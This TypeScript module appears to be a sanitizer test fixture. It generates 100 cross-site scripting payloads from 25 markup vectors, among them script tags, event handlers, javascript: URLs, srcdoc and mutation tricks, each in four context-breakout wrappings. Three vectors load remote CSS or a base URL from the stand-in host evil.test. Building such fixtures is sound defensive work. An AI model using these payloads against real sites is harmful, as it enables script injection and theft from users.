/** What a payload leaves behind when it is run. */
export const RAN = 'ranByPayload';
const run = `window.${RAN}=1`;

/** Ways to have something run, as far as they are known: by elements, attributes, addresses, templates and styles. */
const BARE: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src=x:x onerror=${run}//`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<math><mtext><style><img src onerror="${run}"></style></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${RAN}=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<body onload="${run}">`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<base href="https://evil.test/">`,
  `<link rel=stylesheet href="https://evil.test/a.css">`,
  `<style>@import 'https://evil.test/a.css';body{display:none}</style>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
];

const AROUND: readonly ((bare: string) => string)[] = [
  (bare) => bare,
  (bare) => `">${bare}`,
  (bare) => `'-->]]></textarea></title></style></script>${bare}`,
  (bare) => bare.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];

/** A hundred hostile texts, each another one. Source: Q-32. */
export const markupPayloads: readonly string[] = AROUND.flatMap((around) => BARE.map(around));
